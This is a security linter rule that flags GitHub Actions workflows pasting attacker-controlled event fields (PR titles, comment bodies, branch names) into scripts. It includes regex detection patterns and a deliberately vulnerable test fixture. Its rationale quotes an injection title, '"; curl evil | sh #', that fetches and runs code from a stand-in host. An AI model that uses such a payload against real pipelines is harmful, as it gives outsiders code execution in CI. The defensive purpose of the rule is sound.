rule "github-no-template-injection" {
  title    = "Text that outsiders choose is not pasted into scripts"
  severity = "critical"
  since    = "0.1.0"
  aliases  = ["template-injection", "CKV_GHA_2", "20f14e1a", "62ff6823", "CKV_GHA_7"]

  soc2 = {
    "CC6.8" = "Whoever opens a pull request or an issue can make the pipeline run a command of their own."
  }

  rationale   = "`$${{ }}` is replaced before the shell sees the script, so a title such as `\"; curl evil | sh #` becomes part of it. An environment variable is data and stays data."
  remediation = "Put the value into `env:` and use the variable in the script, in quotes."
  references  = ["https://docs.github.com/en/actions/concepts/security/script-injections"]

  match "github.step" {}

  assert {
    for_each = [for e in self.expressions : e if is_one_of(e.field, "run", "with.script")]
    condition = !matches_any([
      "github\\.event\\.(issue|pull_request|discussion)\\.(title|body)",
      "github\\.event\\.(comment|review|review_comment)\\.body",
      "github\\.event\\.pages.*\\.page_name",
      "github\\.event\\.(head_commit|commits.*)\\.(message|author\\.(email|name))",
      "github\\.event\\.pull_request\\.head\\.(ref|label|repo\\.default_branch)",
      "github\\.event\\.workflow_run\\.(head_branch|head_commit\\.message)",
      "github\\.head_ref",
    ], each.value.text)
    error_message = "whoever sends the event decides what this step of ${written(self.workflow.path)} runs"
  }

  fails "a title in a shell script, a branch in JavaScript" {
    code = <<-YAML
      on: pull_request
      permissions: {}
      jobs:
        greet:
          runs-on: ubuntu-latest
          steps:
            - run: |
                echo "thanks"
                echo "$${{ github.event.pull_request.title }}" #~ here
            - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
              with:
                script: console.log("$${{ github.head_ref }}") #~ here
    YAML
  }

  passes "through the environment, or a value that nobody outside chooses" {
    code = <<-YAML
      on: pull_request
      permissions: {}
      jobs:
        greet:
          runs-on: ubuntu-latest
          steps:
            - env:
                TITLE: $${{ github.event.pull_request.title }}
              run: |
                echo "$TITLE"
                echo "$${{ github.sha }}"
    YAML
  }
}
